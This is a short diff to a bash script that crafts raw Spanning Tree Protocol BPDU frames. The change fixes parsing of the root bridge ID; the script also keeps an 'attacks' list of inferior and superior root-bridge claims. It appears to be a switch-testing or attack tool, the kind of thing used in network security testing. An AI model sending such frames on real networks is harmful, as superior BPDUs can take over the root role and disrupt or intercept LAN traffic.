@@ -63,7 +63,10 @@ HEAD=0180c200000002c0ffee0001
 config() {
 	echo "${HEAD}00264242030000000000${1}00000000${2}80010000060001000400"
 }
-lan_id=${root//[.:]/}
+# ip(8) leaves out leading zeros: "8000.a:43:31:8:c0:24"
+IFS=:. read -ra bytes <<<"$root"
+printf -v lan_id '%s%02s%02s%02s%02s%02s%02s' "${bytes[@]}"
+lan_id=${lan_id// /0}
 attacks=(
 	"$(config ffff02aaaaaaaaaa ffff02aaaaaaaaaa)" # inferior
 	"$(config 000002aaaaaaaaaa 000002aaaaaaaaaa)" # superior
